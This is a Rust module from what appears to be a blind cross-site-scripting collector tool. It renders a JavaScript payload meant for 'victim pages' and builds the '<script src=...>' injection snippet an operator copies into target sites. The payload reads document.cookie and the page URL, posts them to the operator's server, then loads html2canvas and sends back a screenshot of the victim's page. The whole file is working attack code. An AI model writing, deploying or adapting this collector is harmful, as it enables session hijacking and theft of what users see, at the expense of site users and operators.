//! Collector script served to victim pages, and the canned injection
//! snippet the admin console copies to the clipboard.

use crate::entities::{decode_html_entities, encode_html_entities};

pub const BEACON_PATH: &str = "/api/get";
pub const SCREENSHOT_PATH: &str = "/api/screenshot";
pub const SCRIPT_PATH: &str = "/payload.js";

pub const DEFAULT_SCREENSHOT_LIBRARY: &str =
    "https://cdn.jsdelivr.net/npm/html2canvas@1.4.1/dist/html2canvas.min.js";

const SCRIPT_TEMPLATE: &str = r#"(function () {
    var collector = __COLLECTOR__;
    var library = __LIBRARY__;
    var currentUrl = window.location.href;
    var currentCookie = document.cookie;

    function post(path, body) {
        return fetch(collector + path, {
            method: 'POST',
            headers: { 'Content-Type': 'application/json' },
            body: JSON.stringify(body)
        }).then(function (response) {
            if (!response.ok) {
                throw new Error('collector responded ' + response.status);
            }
            return response.json();
        });
    }

    function capture(recordId) {
        var s = document.createElement('script');
        s.src = library;
        s.onload = function () {
            html2canvas(document.documentElement).then(function (canvas) {
                var body = { url: currentUrl, screenshot: canvas.toDataURL('image/png') };
                if (recordId !== undefined && recordId !== null) {
                    body.id = recordId;
                }
                return post(__SCREENSHOT_PATH__, body);
            }).catch(function () {});
        };
        document.body.appendChild(s);
    }

    post(__BEACON_PATH__, { url: currentUrl, cookie: currentCookie })
        .then(function (data) {
            capture(data && data.insertedData ? data.insertedData.id : undefined);
        })
        .catch(function () {
            capture(undefined);
        });
})();
"#;

/// Settings the collector script is rendered with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadSettings {
    /// Public origin victims can reach the collector at, without trailing slash.
    pub public_url: String,
    pub screenshot_library: String,
}

impl PayloadSettings {
    pub fn new(public_url: &str, screenshot_library: &str) -> Self {
        Self {
            public_url: public_url.trim_end_matches('/').to_string(),
            screenshot_library: screenshot_library.to_string(),
        }
    }

    /// JavaScript served at [`SCRIPT_PATH`].
    pub fn collector_script(&self) -> String {
        SCRIPT_TEMPLATE
            .replace("__COLLECTOR__", &js_string(&self.public_url))
            .replace("__LIBRARY__", &js_string(&self.screenshot_library))
            .replace("__SCREENSHOT_PATH__", &js_string(SCREENSHOT_PATH))
            .replace("__BEACON_PATH__", &js_string(BEACON_PATH))
    }

    /// The injection snippet in its HTML-entity-encoded form, as embedded in
    /// the admin page.
    pub fn encoded_snippet(&self) -> String {
        encode_html_entities(&format!(
            r#"<script src="{}{SCRIPT_PATH}"></script>"#,
            self.public_url
        ))
    }

    /// Literal snippet text that goes to the clipboard.
    pub fn snippet(&self) -> String {
        decode_html_entities(&self.encoded_snippet())
    }
}

fn js_string(s: &str) -> String {
    // JSON string literal, `<` escaped
    serde_json::Value::String(s.to_string())
        .to_string()
        .replace('<', "\\u003c")
}
